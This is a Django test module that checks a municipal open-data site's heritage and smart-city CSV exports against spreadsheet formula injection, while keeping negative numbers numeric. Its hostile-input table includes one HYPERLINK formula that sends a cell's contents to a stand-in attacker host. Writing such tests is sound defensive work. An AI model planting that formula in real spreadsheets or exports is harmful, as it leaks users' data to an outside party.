"""Open-data CSVs cannot carry spreadsheet formulas: every dangerous first character, through every export."""

import csv
import io
from decimal import Decimal

from django.test import SimpleTestCase, TestCase

from heritage_pages.models import Category
from home.exports import FORMULA_STARTS, safe_cell, write_rows
from smartcity.choices import BudgetKind, Dimension, FundingSource
from tests.factories.heritage_pages import heritage_index, heritage_site
from tests.factories.pages import home_page
from tests.factories.smartcity import all_dimensions, masterplan, programme

# One hostile text per dangerous first character (tab and carriage return before a formula too).
HOSTILE = {
    "=": '=HYPERLINK("http://bad.example/"&A1,"klik")',
    "+": "+1+2",
    "-": "-2+3",
    "@": "@SUM(1+1)",
    "\t": "\t=1+2",
    "\r": "\r=1+2",
}


def read(text):
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def cells(rows):
    return [cell for row in rows for cell in row]


class SafeCellTests(SimpleTestCase):
    def test_each_dangerous_start_is_neutralised_and_keeps_its_text(self):
        self.assertEqual(set(HOSTILE), set(FORMULA_STARTS))
        for text in HOSTILE.values():
            self.assertEqual(safe_cell(text), "'" + text)

    def test_numbers_stay_numbers_and_text_that_looks_like_one_does_not(self):
        self.assertEqual(safe_cell(-5), -5)
        self.assertEqual(safe_cell(-1.25), -1.25)
        self.assertEqual(safe_cell(Decimal("-0.00000015")), "-0.00000015")
        self.assertEqual(safe_cell(Decimal("1E+2")), "100")
        self.assertEqual(safe_cell("-5"), "'-5")
        self.assertEqual(safe_cell(True), "True")  # a bool is not a number to a spreadsheet
        self.assertEqual(safe_cell(None), "")
        self.assertEqual(safe_cell("Masjid Raya"), "Masjid Raya")

    def test_written_rows_round_trip(self):
        buffer = io.StringIO()
        write_rows(buffer, ["a", "b"], [["=1+2", -3]])
        self.assertEqual(read(buffer.getvalue()), [["a", "b"], ["'=1+2", "-3"]])


class HeritageCsvTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        index = heritage_index()
        for number, (start, text) in enumerate(HOSTILE.items()):
            heritage_site(
                index,
                text,
                text,
                slug_ind=f"situs-{number}",
                slug_en=f"site-{number}",
                official_name=text,
                local_names=text,
                decree_number=text,
                address=text,
                category=Category.BANGUNAN,
            )
            del start

    def test_no_cell_of_the_heritage_csv_starts_a_formula(self):
        for url in ("/id/warisan-budaya/csv/", "/en/heritage/csv/"):
            rows = read(self.client.get(url).content.decode("utf-8"))
            self.assertEqual(len(rows), 1 + len(HOSTILE))
            for cell in cells(rows):
                self.assertFalse(cell.startswith(FORMULA_STARTS), (url, cell))
            titles = {row[1] for row in rows[1:]}
            self.assertEqual(titles, {"'" + text for text in HOSTILE.values()})
            # Coordinates are numbers, written as numbers.
            self.assertEqual({row[21] for row in rows[1:]}, {"0.9263"})


class SmartCityCsvTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        index = masterplan(home_page())
        dimensions = all_dimensions(index)
        for number, text in enumerate(HOSTILE.values()):
            programme(
                dimensions[Dimension.GOVERNANCE],
                text,
                None,  # English falls back to the Indonesian title (an English slug would have to be valid)
                slug_ind=f"program-{number}",
                programme_code=text[:30],
                location=text,
                budget=[(2021, FundingSource.APBD_KOTA, -1_000_000 if number == 0 else 5, BudgetKind.PLANNED)],
                indicators=[("I1", text, text, text[:20], Decimal("-5") if number == 0 else Decimal("1.5"), 2019)],
                values=[("I1", 2021, Decimal("-2.5"), None)],
            )

    def test_no_cell_of_any_smart_city_csv_starts_a_formula(self):
        for name in ("programmes", "budget-lines", "indicators"):
            for base in ("/id/kota-cerdas/", "/en/smart-city/"):
                response = self.client.get(f"{base}export/{name}/csv/")
                self.assertEqual(response.status_code, 200)
                rows = read(response.content.decode("utf-8"))
                self.assertGreater(len(rows), len(HOSTILE), name)
                for cell in cells(rows[1:]):
                    if cell.startswith("-"):
                        float(cell)  # only a real (negative) number may start with a minus
                    else:
                        self.assertFalse(cell.startswith(FORMULA_STARTS), (name, cell))

    def test_negative_numbers_stay_numbers(self):
        budget = read(self.client.get("/id/kota-cerdas/export/budget-lines/csv/").content.decode("utf-8"))
        self.assertIn("-1000000", cells(budget))
        indicators = read(self.client.get("/id/kota-cerdas/export/indicators/csv/").content.decode("utf-8"))
        self.assertIn("-5", cells(indicators))
        self.assertIn("-2.5", cells(indicators))
        self.assertIn("'-2+3", cells(indicators))
